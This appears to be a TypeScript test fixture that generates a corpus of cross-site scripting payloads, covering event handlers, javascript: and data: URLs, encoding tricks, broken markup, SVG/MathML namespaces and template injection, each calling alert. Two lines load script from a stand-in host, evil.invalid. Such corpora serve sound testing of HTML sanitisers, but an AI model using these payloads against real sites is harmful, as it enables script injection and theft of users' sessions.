/**
 * Attempts at script injection through user texts. Each calls `alert`, so that a successful one is noticed. They are
 * the classic kinds: elements, handlers, addresses, encodings, broken markup, foreign namespaces, templates.
 */
const script = 'alert(document.domain)'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onblur',
  'onanimationstart',
  'onbegin',
  'ontoggle',
  'onpointerover',
  'oncopy',
  'onwheel',
]
const elements = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['iframe', 'src=about:blank'],
  ['video', 'src=x'],
  ['audio', 'src=x'],
  ['input', 'autofocus'],
  ['details', 'open'],
  ['object', 'data=x'],
  ['embed', 'src=x'],
  ['marquee', ''],
  ['a', 'href=x'],
  ['select', 'autofocus'],
  ['textarea', 'autofocus'],
  ['math', ''],
] as const

const byHandler = elements.flatMap(([name, attribute], index) => {
  const [first, second] = [handlers[index % handlers.length], handlers[(index + 5) % handlers.length]]
  return [`<${name} ${attribute} ${first}=${script}>`, `<${name} ${attribute} ${second}="${script}">x</${name}>`]
})

const addresses = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` javascript:${script}`,
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  `&#106;avascript:${script}`,
  `&#x6A;avascript:${script}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${script}>`,
  `//evil.invalid/x.js`,
]
const byAddress = addresses.flatMap((address) => [`<a href="${address}">here</a>`, `<img src="${address}">`])

const byMarkup = [
  `<script>${script}</script>`,
  `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<<script>${script}//<</script>`,
  `"><script>${script}</script>`,
  `'><img src=x onerror=${script}>`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `</script><script>${script}</script>`,
  `<!--><script>${script}</script>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${script}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  `<math><annotation-xml encoding="text/html"><script>${script}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<template><script>${script}</script></template>`,
  `<form><button formaction="javascript:${script}">x</button></form>`,
  `<form action="javascript:${script}"><input type=submit></form>`,
  `<base href="javascript:${script}//">`,
  `<link rel=stylesheet href="javascript:${script}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<style>@import 'javascript:${script}';</style>`,
  `<div style="background:url(javascript:${script})">x</div>`,
  `<p style="animation-name:x" onanimationstart=${script}>x</p>`,
  `<img src="x" alt="\`><script>${script}</script>">`,
  `<img srcset="x 1x, javascript:${script} 2x">`,
  `<picture><source srcset=x onerror=${script}><img src=x></picture>`,
  `<isindex type=image src=1 onerror=${script}>`,
  `<xss onafterscriptexecute=${script}>`,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `\u0000<script>${script}</script>`.slice(1),
  `<img src=x onerror\u000b=${script}>`,
  `%3Cscript%3E${script}%3C/script%3E`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `\u2028<script>${script}</script>`,
]

export const payloads: readonly string[] = [...byHandler, ...byAddress, ...byMarkup]
